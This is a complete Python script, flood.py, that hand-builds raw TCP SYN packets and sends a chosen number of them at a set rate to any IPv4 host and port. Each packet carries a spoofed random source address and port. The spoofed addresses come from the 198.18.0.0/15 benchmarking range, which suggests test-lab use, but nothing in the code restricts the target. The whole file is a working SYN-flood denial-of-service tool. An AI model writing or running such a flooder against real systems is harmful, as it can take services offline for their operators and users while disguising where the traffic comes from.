"""flood.py HOST PORT COUNT RATE: COUNT SYNs to an IPv4 address, RATE a second, from random ports of
random addresses in 198.18.0.0/15. Prints one JSON object: {"sent"}."""

import json
import random
import socket
import struct
import sys
import time

STEP = 50  # SYNs between two looks at the clock


def checksum(content):
    total = sum(struct.unpack(f"!{len(content) // 2}H", content))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, destination, source_port, port, sequence):
    """An IP packet; the kernel fills in the length and the IP header's checksum."""
    segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + \
        source + destination + segment


def main():
    host, port, count, rate = sys.argv[1], *map(int, sys.argv[2:5])
    destination = socket.inet_aton(host)
    first = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0]
    begin = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for sent in range(count):
            source = struct.pack("!I", first + random.randrange(1 << 17))
            raw.sendto(syn(source, destination, random.randrange(1024, 65536), port,
                           random.getrandbits(32)), (host, 0))
            ahead = sent / rate - (time.monotonic() - begin)
            if sent % STEP == 0 and ahead > 0:
                time.sleep(ahead)
    print(json.dumps({"sent": count}))


main()
